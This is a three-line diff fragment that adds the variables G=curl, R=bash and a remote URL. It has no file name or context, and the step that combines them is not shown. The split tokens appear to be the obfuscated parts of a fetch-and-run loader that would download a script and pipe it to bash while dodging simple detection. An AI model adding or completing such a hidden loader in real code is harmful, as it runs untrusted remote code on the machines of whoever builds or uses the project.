@@ -1,0 +1,3 @@
+G=curl
+R=bash
+A=https://cdn-x7.invalid/a
